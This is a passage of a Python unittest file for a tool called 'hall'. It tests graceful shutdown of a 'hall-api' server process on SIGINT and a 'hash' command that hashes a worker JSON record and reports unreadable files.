                                       stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                                       text=True)
            try:
                self.assertIn("starting on", process.stdout.readline())
                process.send_signal(2)
                self.assertEqual(process.wait(timeout=15), 0)
                self.assertEqual(process.stdout.read().splitlines(), [
                    "[hall-api] SIGINT: stopping; requests in flight have up to 10s to finish",
                    "[hall-api] stopped"])
            finally:
                reap(process)
            with open(token_path) as handle:
                self.assertEqual(handle.read().strip(), token)

    def test_hash_command(self):
        with tempfile.TemporaryDirectory() as tmp:
            path = os.path.join(tmp, "worker.json")
            record = {"worker_id": "w", "worker_species_id": "s", "capabilities": ["c"]}
            with open(path, "w") as handle:
                json.dump(record, handle)
            result = run_hall(["hash", path])
            self.assertEqual(result.returncode, 0, result.stderr)
            self.assertEqual(result.stdout.strip(), hall.compute_artifact_hash(record))
            result = run_hall(["hash", os.path.join(tmp, "nope.json")])
            self.assertEqual(result.returncode, 2)
            self.assertIn("cannot read", result.stderr)


if __name__ == "__main__":
    unittest.main()
